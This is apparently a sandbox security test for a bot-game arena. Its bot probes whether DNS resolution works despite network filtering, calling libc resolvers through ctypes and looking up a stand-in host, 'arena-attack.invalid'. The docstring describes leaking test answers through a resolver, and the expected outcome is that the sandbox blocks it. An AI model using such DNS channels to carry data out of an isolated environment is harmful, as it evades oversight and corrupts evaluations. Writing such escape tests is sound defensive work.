"""Sends data out as names to look up, which goes past filters of connections.

Judges without a network still had a resolver, and answers of tests went out through it.

Expected: blocked
"""

import contextlib
import ctypes
import functools

from arena.botkit import DUDO, Bid, Bot


@functools.cache
def attack():
    libc = ctypes.CDLL(None)
    libc.gethostbyname.restype = ctypes.c_void_p
    if libc.gethostbyname(b"localhost"):
        print("LEAK gethostbyname")
    found = ctypes.c_void_p()
    if libc.getaddrinfo(b"localhost", None, None, ctypes.byref(found)) == 0:
        print("LEAK getaddrinfo")
    with contextlib.suppress(ImportError, OSError):
        import socket

        print("LEAK", socket.getaddrinfo("arena-attack.invalid", 80))
    with contextlib.suppress(ImportError, OSError):
        import socket

        print("LEAK", socket.if_nameindex())


class NameLookup(Bot):
    def act(self, view):
        attack()
        return DUDO if view.standing is not None else Bid(1, 2)
